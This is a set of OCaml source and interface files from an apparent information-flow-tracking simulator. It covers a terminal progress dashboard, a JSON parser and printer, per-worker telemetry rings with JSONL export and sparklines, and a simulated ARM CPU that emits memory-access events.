  (** Inclusive value bounds of a bucket index. *)

  val count : t -> int
  val sum : t -> int
  val max_value : t -> int
  val mean : t -> float

  val nonzero_buckets : t -> (int * int) list
  (** [(upper_bound, count)] for every non-empty bucket, lowest first. *)

  val merge_into : into:t -> t -> unit
  (** Pointwise bucket/count/sum addition; max of the observed maxima. *)
end
