(* `pift top`: a live multi-line stderr dashboard for sweeps and runs —
   the multi-row sibling of [Progress].  One header line (cells done,
   rate, ETA) plus one line per worker slot showing events seen,
   snapshot-ring health, and the latest telemetry readings
   (tainted bytes, ranges, store occupancy).

   Repaints rewrite the previous frame in place with an ANSI cursor-up,
   so the view only makes sense on a terminal: [enabled] defaults to
   [Unix.isatty Unix.stderr] and everything is a no-op otherwise — CI
   logs never accumulate escape-code spam.  Everything goes to stderr;
   stdout stays byte-identical with the view on or off.  Steps and
   telemetry-snapshot hooks may arrive from any worker domain, so state
   and repaint are mutex-guarded (per cell / per snapshot, never per
   event — the lock is cold). *)

type t = {
  label : string;
  enabled : bool;
  started : float;
  mu : Mutex.t;
  telems : Telemetry.t array;
  rings : Flight.t array;
  mutable total : int;
  mutable done_ : int;
  mutable lines : int;  (* lines painted by the previous frame *)
  mutable last_paint : float;
  mutable finished : bool;
}

let human v =
  if v >= 1e9 then Printf.sprintf "%.1fG" (v /. 1e9)
  else if v >= 1e6 then Printf.sprintf "%.1fM" (v /. 1e6)
  else if v >= 1e4 then Printf.sprintf "%.1fk" (v /. 1e3)
  else if Float.is_integer v then Printf.sprintf "%.0f" v
  else Printf.sprintf "%.1f" v

(* The per-slot line reads whichever of the well-known series the
   tracker/storage registered; anything absent is simply not shown. *)
let known_values = [ "tainted_bytes"; "ranges"; "storage_occupancy" ]

let slot_line i te rings =
  let buf = Buffer.create 80 in
  Buffer.add_string buf (Printf.sprintf "  slot %-2d" i);
  Buffer.add_string buf
    (Printf.sprintf " | ev %-7s" (human (float_of_int (Telemetry.events te))));
  Buffer.add_string buf
    (Printf.sprintf " | snaps %d" (Telemetry.taken te));
  let sdrop = Telemetry.dropped te in
  if sdrop > 0 then Buffer.add_string buf (Printf.sprintf " (-%d)" sdrop);
  let latest = Telemetry.latest te in
  List.iter
    (fun name ->
      match List.assoc_opt name latest with
      | Some v ->
          Buffer.add_string buf (Printf.sprintf " | %s %s" name (human v))
      | None -> ())
    known_values;
  (if i < Array.length rings then
     let rdrop = Flight.dropped rings.(i) in
     if rdrop > 0 then
       Buffer.add_string buf (Printf.sprintf " | ring -%d" rdrop));
  Buffer.contents buf

let paint t ~now =
  let buf = Buffer.create 256 in
  if t.lines > 0 then
    Buffer.add_string buf (Printf.sprintf "\027[%dA" t.lines);
  let add line =
    Buffer.add_string buf "\r\027[K";
    Buffer.add_string buf line;
    Buffer.add_char buf '\n'
  in
  let elapsed = now -. t.started in
  let rate = if elapsed > 0. then float_of_int t.done_ /. elapsed else 0. in
  let eta =
    if rate > 0. && t.done_ < t.total then
      Printf.sprintf " ETA %.0fs" (float_of_int (t.total - t.done_) /. rate)
    else ""
  in
  add
    (if t.total > 0 then
       Printf.sprintf "pift top — %s %d/%d (%.1f/s)%s" t.label t.done_
         t.total rate eta
     else Printf.sprintf "pift top — %s %.1fs" t.label elapsed);
  Array.iteri (fun i te -> add (slot_line i te t.rings)) t.telems;
  t.lines <- 1 + Array.length t.telems;
  t.last_paint <- now;
  output_string stderr (Buffer.contents buf);
  flush stderr

let refresh t =
  if t.enabled then begin
    Mutex.lock t.mu;
    if not t.finished then begin
      let now = Unix.gettimeofday () in
      if now -. t.last_paint >= 0.1 then paint t ~now
    end;
    Mutex.unlock t.mu
  end

let create ?enabled ~label ?(total = 0) ?(telems = [||]) ?(rings = [||]) () =
  let enabled =
    match enabled with Some b -> b | None -> Unix.isatty Unix.stderr
  in
  let t =
    {
      label;
      enabled;
      started = Unix.gettimeofday ();
      mu = Mutex.create ();
      telems;
      rings;
      total = max 0 total;
      done_ = 0;
      lines = 0;
      last_paint = 0.;
      finished = false;
    }
  in
  (* Snapshots drive mid-phase repaints (throttled), so the view moves
     even while a single long cell is replaying. *)
  if enabled then
    Array.iter (fun te -> Telemetry.on_snapshot te (fun () -> refresh t))
      telems;
  t

let enabled t = t.enabled

let set_total t total =
  Mutex.lock t.mu;
  t.total <- max 0 total;
  Mutex.unlock t.mu

let step t =
  if t.enabled then begin
    Mutex.lock t.mu;
    t.done_ <- t.done_ + 1;
    let now = Unix.gettimeofday () in
    if now -. t.last_paint >= 0.1 || t.done_ >= t.total then paint t ~now;
    Mutex.unlock t.mu
  end

let finish t =
  if t.enabled then begin
    Mutex.lock t.mu;
    if not t.finished then begin
      paint t ~now:(Unix.gettimeofday ());
      t.finished <- true;
      flush stderr
    end;
    Mutex.unlock t.mu
  end
