type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

(* --- printing ---------------------------------------------------------- *)

let escape b s =
  Buffer.add_char b '"';
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\r' -> Buffer.add_string b "\\r"
      | '\t' -> Buffer.add_string b "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.add_char b '"'

let float_repr f =
  if Float.is_integer f && Float.abs f < 1e15 then
    Printf.sprintf "%.1f" f
  else Printf.sprintf "%.12g" f

let rec emit b = function
  | Null -> Buffer.add_string b "null"
  | Bool v -> Buffer.add_string b (if v then "true" else "false")
  | Int v -> Buffer.add_string b (string_of_int v)
  | Float v -> Buffer.add_string b (float_repr v)
  | String s -> escape b s
  | List items ->
      Buffer.add_char b '[';
      List.iteri
        (fun i item ->
          if i > 0 then Buffer.add_char b ',';
          emit b item)
        items;
      Buffer.add_char b ']'
  | Obj fields ->
      Buffer.add_char b '{';
      List.iteri
        (fun i (k, v) ->
          if i > 0 then Buffer.add_char b ',';
          escape b k;
          Buffer.add_char b ':';
          emit b v)
        fields;
      Buffer.add_char b '}'

let to_string v =
  let b = Buffer.create 256 in
  emit b v;
  Buffer.contents b

(* --- parsing ----------------------------------------------------------- *)

exception Parse_error of string

type cursor = { src : string; mutable pos : int }

let error c msg =
  raise (Parse_error (Printf.sprintf "%s at offset %d" msg c.pos))

let peek c = if c.pos < String.length c.src then Some c.src.[c.pos] else None

let skip_ws c =
  while
    c.pos < String.length c.src
    && match c.src.[c.pos] with ' ' | '\t' | '\n' | '\r' -> true | _ -> false
  do
    c.pos <- c.pos + 1
  done

let expect c ch =
  match peek c with
  | Some x when x = ch -> c.pos <- c.pos + 1
  | Some _ | None -> error c (Printf.sprintf "expected %c" ch)

let literal c word value =
  let n = String.length word in
  if
    c.pos + n <= String.length c.src
    && String.equal (String.sub c.src c.pos n) word
  then begin
    c.pos <- c.pos + n;
    value
  end
  else error c ("expected " ^ word)

let parse_string c =
  expect c '"';
  let b = Buffer.create 16 in
  let rec go () =
    if c.pos >= String.length c.src then error c "unterminated string";
    let ch = c.src.[c.pos] in
    c.pos <- c.pos + 1;
    match ch with
    | '"' -> Buffer.contents b
    | '\\' ->
        (if c.pos >= String.length c.src then error c "bad escape";
         let e = c.src.[c.pos] in
         c.pos <- c.pos + 1;
         match e with
         | '"' -> Buffer.add_char b '"'
         | '\\' -> Buffer.add_char b '\\'
         | '/' -> Buffer.add_char b '/'
         | 'n' -> Buffer.add_char b '\n'
         | 'r' -> Buffer.add_char b '\r'
         | 't' -> Buffer.add_char b '\t'
         | 'b' -> Buffer.add_char b '\b'
         | 'f' -> Buffer.add_char b '\012'
         | 'u' ->
             if c.pos + 4 > String.length c.src then error c "bad \\u escape";
             let hex = String.sub c.src c.pos 4 in
             c.pos <- c.pos + 4;
             let code =
               try int_of_string ("0x" ^ hex)
               with Failure _ -> error c "bad \\u escape"
             in
             (* Only BMP code points below 0x80 round-trip exactly; the
                sinks never emit higher ones. *)
             if code < 0x80 then Buffer.add_char b (Char.chr code)
             else Buffer.add_string b (Printf.sprintf "\\u%04x" code)
         | _ -> error c "bad escape");
        go ()
    | ch -> Buffer.add_char b ch; go ()
  in
  go ()

let parse_number c =
  let start = c.pos in
  let is_num_char ch =
    match ch with
    | '0' .. '9' | '-' | '+' | '.' | 'e' | 'E' -> true
    | _ -> false
  in
  while
    c.pos < String.length c.src && is_num_char c.src.[c.pos]
  do
    c.pos <- c.pos + 1
  done;
  let tok = String.sub c.src start (c.pos - start) in
  if String.contains tok '.' || String.contains tok 'e'
     || String.contains tok 'E'
  then
    match float_of_string_opt tok with
    | Some f -> Float f
    | None -> error c "bad number"
  else
    match int_of_string_opt tok with
    | Some i -> Int i
    | None -> error c "bad number"

let rec parse_value c =
  skip_ws c;
  match peek c with
  | None -> error c "unexpected end of input"
  | Some '{' ->
      expect c '{';
      skip_ws c;
      if peek c = Some '}' then begin
        c.pos <- c.pos + 1;
        Obj []
      end
      else begin
        let fields = ref [] in
        let rec fields_loop () =
          skip_ws c;
          let key = parse_string c in
          skip_ws c;
          expect c ':';
          let v = parse_value c in
          fields := (key, v) :: !fields;
          skip_ws c;
          match peek c with
          | Some ',' -> c.pos <- c.pos + 1; fields_loop ()
          | Some '}' -> c.pos <- c.pos + 1
          | Some _ | None -> error c "expected , or }"
        in
        fields_loop ();
        Obj (List.rev !fields)
      end
  | Some '[' ->
      expect c '[';
      skip_ws c;
      if peek c = Some ']' then begin
        c.pos <- c.pos + 1;
        List []
      end
      else begin
        let items = ref [] in
        let rec items_loop () =
          let v = parse_value c in
          items := v :: !items;
          skip_ws c;
          match peek c with
          | Some ',' -> c.pos <- c.pos + 1; items_loop ()
          | Some ']' -> c.pos <- c.pos + 1
          | Some _ | None -> error c "expected , or ]"
        in
        items_loop ();
        List (List.rev !items)
      end
  | Some '"' -> String (parse_string c)
  | Some 't' -> literal c "true" (Bool true)
  | Some 'f' -> literal c "false" (Bool false)
  | Some 'n' -> literal c "null" Null
  | Some _ -> parse_number c

let of_string s =
  let c = { src = s; pos = 0 } in
  let v = parse_value c in
  skip_ws c;
  if c.pos <> String.length s then error c "trailing garbage";
  v

(* --- accessors --------------------------------------------------------- *)

let member key = function
  | Obj fields -> List.assoc_opt key fields
  | _ -> None

let to_int = function
  | Int i -> Some i
  | Float f when Float.is_integer f -> Some (int_of_float f)
  | _ -> None

let to_float = function
  | Int i -> Some (float_of_int i)
  | Float f -> Some f
  | _ -> None

let to_str = function String s -> Some s | _ -> None
let to_list = function List l -> Some l | _ -> None
