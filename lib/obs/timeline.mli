(** Merge per-worker flight-recorder rings into per-slot tracks.

    The merge rule is the trace-side sibling of [Registry.merge]: each
    worker slot's ring becomes one track ([tid] = slot index, so track 0
    is the calling domain), and events keep their within-ring order —
    rings are single-writer and stamp monotonic timestamps, so a track
    is already a valid per-thread timeline and no cross-ring reordering
    is needed or wanted. *)

type track = {
  tid : int;  (** worker slot index *)
  events : Flight.event list;  (** oldest first, timestamps monotonic *)
  dropped : int;  (** events this ring lost to wrap-around *)
}

type t

val of_rings : Flight.t array -> t
(** One track per ring, [tid] = array index. *)

val tracks : t -> track list

val event_count : t -> int

val dropped : t -> int
(** Total events lost across all rings. *)

val span_bounds : t -> (float * float) option
(** (earliest, latest) timestamp across every track; [None] if empty. *)
