(* Continuous telemetry: a bounded ring of periodic snapshots taken
   while a run is in flight, so tainted-byte growth, store occupancy and
   the registry's counters become time series instead of end-of-run
   aggregates.

   One instance per worker slot, single writer (the ring discipline of
   [Flight]): [bump] is the per-event hot path — an integer increment
   and a compare, plus a clock read at most every 64 events when a
   wall-clock interval is configured.  Snapshots read the registered
   sources (closures over live tracker/store/storage state) and the
   attached registry; when the ring is full the oldest snapshots are
   overwritten and counted as dropped.  Capacity 0 turns recording off:
   every call is a no-op, the same convention as [Flight.create
   ~capacity:0]. *)

type snapshot = {
  sn_seq : int;  (* snapshots taken before this one *)
  sn_ts : float;  (* seconds since the flight epoch *)
  sn_events : int;  (* bumps seen when the snapshot was taken *)
  sn_values : (string * float) list;
}

type t = {
  cap : int;
  every : int;  (* events between snapshots; <= 0 disables the trigger *)
  interval : float;  (* seconds between snapshots; <= 0 disables *)
  sources : (string, unit -> float) Hashtbl.t;
  mutable source_order_rev : string list;
  mutable registry : Registry.t option;
  ring : snapshot array;
  mutable taken : int;
  mutable events : int;
  mutable since : int;  (* events since the last snapshot *)
  mutable last_ts : float;
  mutable on_snapshot : (unit -> unit) option;
}

let default_capacity = 1024
let default_every = 4096

let empty_snapshot = { sn_seq = 0; sn_ts = 0.; sn_events = 0; sn_values = [] }

let create ?(capacity = default_capacity) ?(every = default_every)
    ?(interval = 0.) () =
  let cap = max 0 capacity in
  {
    cap;
    every;
    interval;
    sources = Hashtbl.create 8;
    source_order_rev = [];
    registry = None;
    ring = Array.make (max 1 cap) empty_snapshot;
    taken = 0;
    events = 0;
    since = 0;
    last_ts = Flight.now ();
    on_snapshot = None;
  }

let capacity t = t.cap

(* Replace-by-name: a sweep builds one tracker per grid cell against the
   same per-slot telemetry, so re-registering "tainted_bytes" must
   rebind the closure to the newest store, not grow a duplicate. *)
let set_source t ~name f =
  if t.cap > 0 then begin
    if not (Hashtbl.mem t.sources name) then
      t.source_order_rev <- name :: t.source_order_rev;
    Hashtbl.replace t.sources name f
  end

let attach_registry t registry = if t.cap > 0 then t.registry <- Some registry

let on_snapshot t f = t.on_snapshot <- Some f

(* Registry counters and gauges become series points named by metric
   (plus a {label=value} suffix for family cells); histograms are
   end-of-run distributions and are skipped. *)
let registry_values registry =
  List.concat_map
    (fun (s : Registry.sample) ->
      List.filter_map
        (fun (labels, point) ->
          let name =
            match labels with
            | [] -> s.Registry.s_name
            | labels ->
                s.Registry.s_name ^ "{"
                ^ String.concat ","
                    (List.map (fun (k, v) -> k ^ "=" ^ v) labels)
                ^ "}"
          in
          match point with
          | Registry.P_counter v -> Some (name, float_of_int v)
          | Registry.P_gauge { value; _ } -> Some (name, value)
          | Registry.P_histogram _ -> None)
        s.Registry.s_points)
    (Registry.snapshot registry)

let sample_now t =
  if t.cap > 0 then begin
    let ts = Flight.now () in
    let values =
      List.rev_map
        (fun name -> (name, (Hashtbl.find t.sources name) ()))
        t.source_order_rev
      @ match t.registry with None -> [] | Some r -> registry_values r
    in
    t.ring.(t.taken mod t.cap) <-
      { sn_seq = t.taken; sn_ts = ts; sn_events = t.events; sn_values = values };
    t.taken <- t.taken + 1;
    t.since <- 0;
    t.last_ts <- ts;
    match t.on_snapshot with None -> () | Some f -> f ()
  end

let bump t =
  if t.cap > 0 then begin
    t.events <- t.events + 1;
    t.since <- t.since + 1;
    if t.every > 0 && t.since >= t.every then sample_now t
    else if t.interval > 0. && t.since land 63 = 0 then begin
      (* Check the wall clock only every 64 events so interval-driven
         telemetry stays cheap on the per-event path. *)
      let now = Flight.now () in
      if now -. t.last_ts >= t.interval then sample_now t
    end
  end

let taken t = t.taken
let events t = t.events
let length t = min t.taken t.cap
let dropped t = max 0 (t.taken - t.cap)

let snapshots t =
  if t.cap = 0 then []
  else
    List.init (length t) (fun i ->
        t.ring.((max 0 (t.taken - t.cap) + i) mod t.cap))

let latest t =
  if t.taken = 0 || t.cap = 0 then []
  else t.ring.((t.taken - 1) mod t.cap).sn_values

let clear t =
  t.taken <- 0;
  t.events <- 0;
  t.since <- 0;
  t.last_ts <- Flight.now ()

(* Interleave per-slot snapshots onto the common time axis; ties break
   by slot then sequence so the merged order is deterministic for a
   fixed set of snapshots. *)
let merged ts =
  let all =
    List.concat
      (Array.to_list
         (Array.mapi
            (fun slot t -> List.map (fun sn -> (slot, sn)) (snapshots t))
            ts))
  in
  List.sort
    (fun (sa, a) (sb, b) ->
      compare (a.sn_ts, sa, a.sn_seq) (b.sn_ts, sb, b.sn_seq))
    all

(* --- JSONL export ------------------------------------------------------- *)

(* One header line (slot count, ring health) then one line per snapshot,
   all keyed "pift_telemetry" — the handle [Sink.classify] sniffs.
   Header lines carry "slots"; snapshot lines carry "values". *)

let header_json ~run ts =
  let total f = Array.fold_left (fun acc t -> acc + f t) 0 ts in
  Json.Obj
    [
      ( "pift_telemetry",
        Json.Obj
          ([
             ("slots", Json.Int (Array.length ts));
             ("taken", Json.Int (total taken));
             ("dropped", Json.Int (total dropped));
             ( "capacity",
               Json.Int
                 (Array.fold_left (fun acc t -> max acc t.cap) 0 ts) );
           ]
          @ if String.equal run "" then [] else [ ("run", Json.String run) ])
      );
    ]

let snapshot_json ~slot sn =
  Json.Obj
    [
      ( "pift_telemetry",
        Json.Obj
          [
            ("slot", Json.Int slot);
            ("seq", Json.Int sn.sn_seq);
            ("ts", Json.Float sn.sn_ts);
            ("events", Json.Int sn.sn_events);
            ( "values",
              Json.Obj
                (List.map (fun (k, v) -> (k, Json.Float v)) sn.sn_values) );
          ] );
    ]

let write_jsonl oc ~run ts =
  let emit j =
    output_string oc (Json.to_string j);
    output_char oc '\n'
  in
  emit (header_json ~run ts);
  List.iter (fun (slot, sn) -> emit (snapshot_json ~slot sn)) (merged ts)

(* --- decoding + rendering (pift report) --------------------------------- *)

exception Malformed of string

type series = {
  se_name : string;
  se_points : (float * float) list;  (* (ts, value), file order *)
}

type file = {
  f_run : string;
  f_slots : int;
  f_taken : int;
  f_dropped : int;
  f_series : series list;  (* first-seen metric order *)
}

let get ~ctx what = function
  | Some v -> v
  | None -> raise (Malformed (Printf.sprintf "%s: missing %s" ctx what))

(* Fold every "pift_telemetry" line of a report file (header and
   snapshot lines, in file order) into per-metric series. *)
let of_json_lines lines =
  let run = ref "" and slots = ref 0 and taken = ref 0 and dropped = ref 0 in
  let by_name = Hashtbl.create 8 in
  let order_rev = ref [] in
  let saw_header = ref false in
  List.iter
    (fun line ->
      let body =
        get ~ctx:"telemetry" "pift_telemetry"
          (Json.member "pift_telemetry" line)
      in
      match Json.member "values" body with
      | None ->
          (* header line *)
          saw_header := true;
          let int name =
            get ~ctx:"telemetry header" name
              (Option.bind (Json.member name body) Json.to_int)
          in
          slots := int "slots";
          taken := int "taken";
          dropped := int "dropped";
          run :=
            Option.value ~default:""
              (Option.bind (Json.member "run" body) Json.to_str)
      | Some values ->
          let ts =
            get ~ctx:"telemetry snapshot" "ts"
              (Option.bind (Json.member "ts" body) Json.to_float)
          in
          let fields =
            match values with
            | Json.Obj fields -> fields
            | _ -> raise (Malformed "telemetry snapshot: values not an object")
          in
          List.iter
            (fun (name, v) ->
              let v =
                get ~ctx:("telemetry value " ^ name) "number" (Json.to_float v)
              in
              match Hashtbl.find_opt by_name name with
              | Some points -> points := (ts, v) :: !points
              | None ->
                  Hashtbl.add by_name name (ref [ (ts, v) ]);
                  order_rev := name :: !order_rev)
            fields)
    lines;
  if not !saw_header then begin
    (* Tolerate snapshot-only files (e.g. a truncated log): reconstruct
       what the header would have said. *)
    taken :=
      List.length
        (List.filter (fun l -> Json.member "pift_telemetry" l <> None) lines)
  end;
  {
    f_run = !run;
    f_slots = !slots;
    f_taken = !taken;
    f_dropped = !dropped;
    f_series =
      List.rev_map
        (fun name ->
          { se_name = name; se_points = List.rev !(Hashtbl.find by_name name) })
        !order_rev;
  }

(* Eight-level Unicode sparkline, downsampled to at most [width] cells
   by averaging each cell's bucket of points. *)
let spark_levels = [| "▁"; "▂"; "▃"; "▄"; "▅"; "▆"; "▇"; "█" |]

let sparkline ?(width = 44) values =
  match values with
  | [] -> ""
  | _ ->
      let n = List.length values in
      let arr = Array.of_list values in
      let cells = min width n in
      let lo = Array.fold_left min arr.(0) arr in
      let hi = Array.fold_left max arr.(0) arr in
      let buf = Buffer.create (3 * cells) in
      for c = 0 to cells - 1 do
        let i0 = c * n / cells and i1 = max (((c + 1) * n / cells) - 1) 0 in
        let i1 = max i0 i1 in
        let sum = ref 0. in
        for i = i0 to i1 do
          sum := !sum +. arr.(i)
        done;
        let v = !sum /. float_of_int (i1 - i0 + 1) in
        let level =
          if hi <= lo then 0
          else
            min 7
              (int_of_float (7.99 *. ((v -. lo) /. (hi -. lo))))
        in
        Buffer.add_string buf spark_levels.(level)
      done;
      Buffer.contents buf

let render_file f ppf () =
  Format.fprintf ppf "== telemetry%s ==@."
    (if String.equal f.f_run "" then ""
     else Printf.sprintf " (%s)" f.f_run);
  Format.fprintf ppf "@[<v>%d snapshots across %d slot(s)%s@," f.f_taken
    (max 1 f.f_slots)
    (if f.f_dropped > 0 then
       Printf.sprintf " — warning: ring dropped %d oldest snapshot(s)"
         f.f_dropped
     else "");
  if f.f_series <> [] then begin
    let name_w =
      List.fold_left
        (fun acc s -> max acc (String.length s.se_name))
        (String.length "metric") f.f_series
    in
    Format.fprintf ppf "@,%-*s %6s %12s %12s %12s@," name_w "metric" "n"
      "min" "max" "last";
    List.iter
      (fun s ->
        let values = List.map snd s.se_points in
        let lo = List.fold_left min (List.hd values) values in
        let hi = List.fold_left max (List.hd values) values in
        let last = List.nth values (List.length values - 1) in
        let num v =
          if Float.is_integer v && Float.abs v < 1e15 then
            Printf.sprintf "%.0f" v
          else Printf.sprintf "%g" v
        in
        Format.fprintf ppf "%-*s %6d %12s %12s %12s@," name_w s.se_name
          (List.length values) (num lo) (num hi) (num last);
        Format.fprintf ppf "%-*s %s@," name_w "" (sparkline values))
      f.f_series
  end
  else Format.fprintf ppf "(no snapshot values)@,";
  Format.fprintf ppf "@]@."

let render_json_lines lines ppf () = render_file (of_json_lines lines) ppf ()
