module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Cond = Pift_arm.Cond
module Range = Pift_util.Range
module Event = Pift_trace.Event

let mask32 v = v land 0xFFFF_FFFF

(* Return-address sentinel: a code index no fragment ever reaches. *)
let return_sentinel = 0xFFFF_FFFF

module Counter = Pift_obs.Metric.Counter

type meters = {
  m_insns : Counter.t;
  m_loads : Counter.t;
  m_stores : Counter.t;
}

let meters_of registry =
  let c help name = Pift_obs.Registry.counter registry ~help name in
  {
    m_insns = c "instructions retired" "pift_cpu_instructions_total";
    m_loads = c "load instructions retired" "pift_cpu_loads_total";
    m_stores = c "store instructions retired" "pift_cpu_stores_total";
  }

type t = {
  mem : Memory.t;
  regs : int array;
  mutable cmp_fst : int;
  mutable cmp_snd : int;
  mutable pid : int;
  counters : (int, int ref) Hashtbl.t;
  mutable seq : int;
  mutable sink : Event.t -> unit;
  meters : meters option;
}

let create ?(pid = 1) ?metrics ~sink mem =
  {
    mem;
    regs = Array.make 16 0;
    cmp_fst = 0;
    cmp_snd = 0;
    pid;
    counters = Hashtbl.create 4;
    seq = 0;
    sink;
    meters = Option.map meters_of metrics;
  }

let memory t = t.mem
let get t r = t.regs.(Reg.index r)
let set t r v = t.regs.(Reg.index r) <- mask32 v
let pid t = t.pid
let set_pid t pid = t.pid <- pid

let counter_ref t =
  match Hashtbl.find_opt t.counters t.pid with
  | Some r -> r
  | None ->
      let r = ref 0 in
      Hashtbl.add t.counters t.pid r;
      r

let counter t = !(counter_ref t)
let global_seq t = t.seq
let set_sink t sink = t.sink <- sink

let eval_shift t r = function
  | Insn.Lsl n -> mask32 (t.regs.(Reg.index r) lsl (n land 31))
  | Insn.Lsr n -> t.regs.(Reg.index r) lsr (n land 31)
  | Insn.Asr n ->
      let v = t.regs.(Reg.index r) in
      let signed = if v land 0x8000_0000 <> 0 then v - 0x1_0000_0000 else v in
      mask32 (signed asr (n land 31))

let eval_operand t = function
  | Insn.Imm n -> mask32 n
  | Insn.Reg r -> t.regs.(Reg.index r)
  | Insn.Shifted (r, s) -> eval_shift t r s

(* Resolve an addressing mode: effective address, applying writeback. *)
let resolve t = function
  | Insn.Offset (rn, op) -> mask32 (get t rn + eval_operand t op)
  | Insn.Pre (rn, op) ->
      let a = mask32 (get t rn + eval_operand t op) in
      set t rn a;
      a
  | Insn.Post (rn, op) ->
      let a = get t rn in
      set t rn (a + eval_operand t op);
      a

let alu_compute op a b =
  match op with
  | Insn.Add -> a + b
  | Insn.Sub -> a - b
  | Insn.Rsb -> b - a
  | Insn.Mul -> a * b
  | Insn.And -> a land b
  | Insn.Orr -> a lor b
  | Insn.Eor -> a lxor b
  | Insn.Lsl_op -> a lsl (b land 31)
  | Insn.Lsr_op -> a lsr (b land 31)
  | Insn.Asr_op ->
      let signed = if a land 0x8000_0000 <> 0 then a - 0x1_0000_0000 else a in
      signed asr (b land 31)

let do_load t w r addr =
  (match w with
  | Insn.Byte -> set t r (Memory.read_u8 t.mem addr)
  | Insn.Half -> set t r (Memory.read_u16 t.mem addr)
  | Insn.Word -> set t r (Memory.read_u32 t.mem addr)
  | Insn.Dword ->
      set t r (Memory.read_u32 t.mem addr);
      set t (Reg.succ r) (Memory.read_u32 t.mem (addr + 4)));
  Range.of_len addr (Insn.width_bytes w)

let do_store t w r addr =
  (match w with
  | Insn.Byte -> Memory.write_u8 t.mem addr (get t r)
  | Insn.Half -> Memory.write_u16 t.mem addr (get t r)
  | Insn.Word -> Memory.write_u32 t.mem addr (get t r)
  | Insn.Dword ->
      Memory.write_u32 t.mem addr (get t r);
      Memory.write_u32 t.mem (addr + 4) (get t (Reg.succ r)));
  Range.of_len addr (Insn.width_bytes w)

(* Execute one instruction; returns the next pc and the memory access. *)
let step t insn pc =
  match insn with
  | Insn.Ldr (w, r, am) ->
      let addr = resolve t am in
      (pc + 1, Event.Load (do_load t w r addr))
  | Insn.Str (w, r, am) ->
      let addr = resolve t am in
      (pc + 1, Event.Store (do_store t w r addr))
  | Insn.Ldm (rn, regs) ->
      assert (not (List.exists (Reg.equal rn) regs));
      let base = get t rn in
      List.iteri
        (fun i r -> set t r (Memory.read_u32 t.mem (base + (4 * i))))
        regs;
      let len = 4 * List.length regs in
      set t rn (base + len);
      (pc + 1, Event.Load (Range.of_len base len))
  | Insn.Stm (rn, regs) ->
      assert (not (List.exists (Reg.equal rn) regs));
      let len = 4 * List.length regs in
      let base = mask32 (get t rn - len) in
      List.iteri
        (fun i r -> Memory.write_u32 t.mem (base + (4 * i)) (get t r))
        regs;
      set t rn base;
      (pc + 1, Event.Store (Range.of_len base len))
  | Insn.Mov (r, op) ->
      set t r (eval_operand t op);
      (pc + 1, Event.Other)
  | Insn.Mvn (r, op) ->
      set t r (lnot (eval_operand t op));
      (pc + 1, Event.Other)
  | Insn.Alu (op, set_flags, d, s, o) ->
      let result = mask32 (alu_compute op (get t s) (eval_operand t o)) in
      set t d result;
      if set_flags then begin
        t.cmp_fst <- result;
        t.cmp_snd <- 0
      end;
      (pc + 1, Event.Other)
  | Insn.Ubfx (d, s, lsb, w) ->
      set t d ((get t s lsr lsb) land ((1 lsl w) - 1));
      (pc + 1, Event.Other)
  | Insn.Udiv (d, n, m) ->
      let den = get t m in
      set t d (if den = 0 then 0 else get t n / den);
      (pc + 1, Event.Other)
  | Insn.Cmp (r, op) ->
      t.cmp_fst <- get t r;
      t.cmp_snd <- eval_operand t op;
      (pc + 1, Event.Other)
  | Insn.B (c, target) ->
      let next =
        if Cond.holds c ~fst:t.cmp_fst ~snd:t.cmp_snd then target else pc + 1
      in
      (next, Event.Other)
  | Insn.Bl target ->
      set t Reg.LR (pc + 1);
      (target, Event.Other)
  | Insn.Bx r -> (get t r, Event.Other)
  | Insn.Nop -> (pc + 1, Event.Other)

exception Fuel_exhausted

let run ?(fuel = 50_000_000) t frag =
  let saved_lr = get t Reg.LR in
  set t Reg.LR return_sentinel;
  let remaining = ref fuel in
  let pc = ref 0 in
  let n = Array.length frag in
  while !pc <> return_sentinel do
    if !pc < 0 || !pc >= n then
      failwith
        (Printf.sprintf "Cpu.run: pc %d outside fragment of %d insns" !pc n);
    if !remaining = 0 then raise Fuel_exhausted;
    decr remaining;
    let insn = frag.(!pc) in
    let next, access = step t insn !pc in
    t.seq <- t.seq + 1;
    let kr = counter_ref t in
    incr kr;
    (match t.meters with
    | None -> ()
    | Some m -> (
        Counter.incr m.m_insns;
        match access with
        | Event.Load _ -> Counter.incr m.m_loads
        | Event.Store _ -> Counter.incr m.m_stores
        | Event.Other -> ()));
    t.sink { Event.seq = t.seq; k = !kr; pid = t.pid; insn; access };
    pc := next
  done;
  set t Reg.LR saved_lr
