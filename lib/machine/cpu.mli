(** The simulated CPU: register file, flags state, per-process instruction
    counters, and the fragment executor.

    Every executed instruction emits one {!Pift_trace.Event.t} to the
    attached sink — this is the PIFT front-end logic of the paper's Fig. 5,
    which "tracks the instructions executed by the CPU's instruction unit
    and generates events upon observing memory access instructions" (we
    emit non-memory events too, so consumers can measure distances and the
    full-DIFT baseline can see every instruction). *)

type t

val create :
  ?pid:int -> ?metrics:Pift_obs.Registry.t ->
  sink:(Pift_trace.Event.t -> unit) -> Memory.t -> t
(** A CPU with zeroed registers.  [pid] defaults to 1.  With [metrics],
    [pift_cpu_*] counters track instructions retired and the load/store
    mix; without it the retire path stays untouched. *)

val memory : t -> Memory.t

val get : t -> Pift_arm.Reg.t -> int
(** Current 32-bit register value. *)

val set : t -> Pift_arm.Reg.t -> int -> unit
(** Values are truncated to 32 bits. *)

val pid : t -> int

val set_pid : t -> int -> unit
(** Context switch: subsequent events carry the new PID and its own
    instruction counter. *)

val counter : t -> int
(** Per-process instruction counter of the current process. *)

val global_seq : t -> int
(** Instructions executed across all processes. *)

val set_sink : t -> (Pift_trace.Event.t -> unit) -> unit
(** Redirect the event stream (used to splice trackers in and out). *)

exception Fuel_exhausted

val run : ?fuel:int -> t -> Pift_arm.Asm.fragment -> unit
(** Execute a fragment from index 0 until the top-level [bx lr] return.
    [LR] is seeded with a sentinel return address.  Nested [bl] calls
    within the fragment work provided callees preserve [LR] (push/pop via
    [Stm]/[Ldm]).  Raises {!Fuel_exhausted} after [fuel] instructions
    (default [50_000_000]) to catch runaway loops. *)
